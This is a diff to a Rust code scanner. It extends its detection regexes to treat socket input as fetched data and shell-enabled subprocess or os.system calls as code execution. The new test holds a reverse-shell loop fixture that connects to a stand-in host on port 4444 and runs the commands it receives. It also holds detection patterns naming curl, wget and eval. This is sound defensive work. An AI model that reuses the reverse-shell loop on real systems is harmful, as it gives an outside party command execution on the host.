@@ -6,16 +6,16 @@
 //! that runs is never on a line to read (`obfusc/encoded-exec`).
 
 re!(
-    /// A value that comes from the network: a client's call, or a downloader's output.
+    /// A value that comes from the network: a client's call, a socket's input, or a downloader's output.
     FETCH,
-    r#"\burlopen\(|\burllib\.request\.|\brequests\.(get|post|request)\(|\bhttpx\.(get|post|request)\(|\bfetch\s*\(|\bhttps?\.get\(|\baxios(\.get)?\(|DownloadString\(|Invoke-WebRequest|Invoke-RestMethod|\$\(\s*(curl|wget)\b|`\s*(curl|wget)\b|\b(?:vim\.system|io\.popen|vim\.fn\.system)\(\s*\{?\s*['"](?:curl|wget)\b"#
+    r#"\.recv(?:from)?\(|\burlopen\(|\burllib\.request\.|\brequests\.(get|post|request)\(|\bhttpx\.(get|post|request)\(|\bfetch\s*\(|\bhttps?\.get\(|\baxios(\.get)?\(|DownloadString\(|Invoke-WebRequest|Invoke-RestMethod|\$\(\s*(curl|wget)\b|`\s*(curl|wget)\b|\b(?:vim\.system|io\.popen|vim\.fn\.system)\(\s*\{?\s*['"](?:curl|wget)\b"#
 );
 re!(
     /// A name handed to what runs code: `exec(x)`, `eval(x)`, `new Function(x)`, `vm.runInThisContext(x)`,
     /// `compile(x, …)`, `runpy.run_path(str(x))`, `eval "$x"`, `sh -c "$x"`, `python3 -c "$x"`, `Invoke-Expression $x`,
-    /// Lua's `load(x)`.
+    /// Lua's `load(x)`, a shell given the name (`os.system(x)`, `subprocess.run(x, shell=True)`).
     RUNS_NAME,
-    r#"\b(?:exec|eval|Function|runInThisContext|runInNewContext|compile|run_path)\s*\(\s*(?:await\s+)?(?:str\(\s*)?([A-Za-z_][A-Za-z0-9_]*)|\b(?:eval|(?:ba|z|da)?sh\s+-c|python3?\s+-c|node\s+-e|Invoke-Expression|iex)\s+['"]?\$\{?([A-Za-z_][A-Za-z0-9_]*)|(?:^|[^.\w:])(?:load|loadstring)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)"#
+    r#"\b(?:exec|eval|Function|runInThisContext|runInNewContext|compile|run_path)\s*\(\s*(?:await\s+)?(?:str\(\s*)?([A-Za-z_][A-Za-z0-9_]*)|\b(?:eval|(?:ba|z|da)?sh\s+-c|python3?\s+-c|node\s+-e|Invoke-Expression|iex)\s+['"]?\$\{?([A-Za-z_][A-Za-z0-9_]*)|(?:^|[^.\w:])(?:load|loadstring)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)|\b(?:os\.system|os\.popen|subprocess\.getoutput|subprocess\.getstatusoutput)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)|\bsubprocess\.(?:run|call|check_call|check_output|Popen)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)[^\n]*\bshell\s*=\s*True"#
 );
 re!(
     /// A promise's value handed straight to what runs code: `.then(eval)`, `.then(t => eval(t))`.
@@ -90,7 +90,7 @@ fn made_and_run(statements: &[(u32, String)], first_line: u32, source: &regex::R
         let runs = RUNS_NAME
             .captures_iter(line)
             .filter(|c| c.get(0).is_none_or(|m| !regex_method(line, m.start())))
-            .filter_map(|c| c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)))
+            .filter_map(|c| (1..=5).find_map(|i| c.get(i)))
             .find_map(|name| {
                 fetched
                     .iter()
@@ -143,6 +143,23 @@ mod tests {
             fetched_and_run(&super::super::flow::statements(shell), 1),
             Some((1, 2))
         );
+    }
+
+    #[test]
+    fn commands_a_socket_sends_and_a_shell_runs_are_fetched_code_run() {
+        let loop_ = "s = socket.create_connection((\"h.test\", 4444))\nwhile True:\n    cmd = s.recv(4096).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True)\n    s.sendall(out.stdout)\n";
+        assert_eq!(
+            fetched_and_run(&super::super::flow::statements(loop_), 1),
+            Some((3, 4))
+        );
+        let system = "data = conn.recv(1024)\nos.system(data)\n";
+        assert_eq!(
+            fetched_and_run(&super::super::flow::statements(system), 1),
+            Some((1, 2))
+        );
+        // Received data handed to a program as an argument list, or printed, runs nothing of it.
+        let args = "name = s.recv(64).decode()\nsubprocess.run([\"git\", \"checkout\", name])\nprint(name)\n";
+        assert_eq!(fetched_and_run(&super::super::flow::statements(args), 1), None);
     }
 
     #[test]
